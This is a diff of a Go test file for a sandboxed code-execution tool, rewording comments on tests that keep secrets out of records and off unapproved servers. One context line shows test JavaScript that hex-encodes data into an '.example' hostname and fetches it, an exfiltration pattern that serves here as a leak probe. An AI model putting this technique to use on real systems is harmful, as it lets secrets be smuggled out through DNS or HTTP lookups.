@@ -26,7 +26,7 @@ import (
 	"github.com/unitask/unitask/record"
 )
 
-// The code has its secrets; the record, the result and the errors have none of them.
+// The code has its secrets; the record, the result and the errors contain none of them.
 func TestSecrets(t *testing.T) {
 	needVM(t)
 	const secret = `t0ken/with+"odd" chars=`
@@ -68,8 +68,8 @@ fetch("http://" + b.toString("hex").slice(0, 46) + ".example/").catch((e) => { c
 	}
 }
 
-// A secret that stands in the request too is in no part of the record, which says where
-// it stood and is not run again.
+// A secret that is also in the request is in no part of the record. The record shows where it was, and can't be
+// replayed.
 func TestRedactedRequest(t *testing.T) {
 	const secret, denied = "a-secret-value", "a-denied-value"
 	ceiling, err := policy.ParseCeiling("test.toml", []byte(`secrets = ["TOKEN"]`))
@@ -185,8 +185,8 @@ func TestSecretsRefused(t *testing.T) {
 	}
 }
 
-// A ceiling names the secrets that may go in; the others do not, and are not looked for
-// in what the code prints: that would tell the code when it guesses one.
+// A ceiling lists the secrets that a run may have. Other secrets are not searched for in the output, because that would
+// confirm the code's guesses.
 func TestSecretsUnderCeiling(t *testing.T) {
 	needVM(t)
 	ceiling, err := policy.ParseCeiling("test.toml", []byte(`secrets = ["GOOD"]`))
@@ -202,7 +202,7 @@ func TestSecretsUnderCeiling(t *testing.T) {
 	}
 }
 
-// A secret reaches the server that the policy allows, and nobody else.
+// A secret reaches only the server that the policy allows.
 func TestSecretReachesServer(t *testing.T) {
 	needVM(t)
 	const token = "ghp_0123456789abcdef"
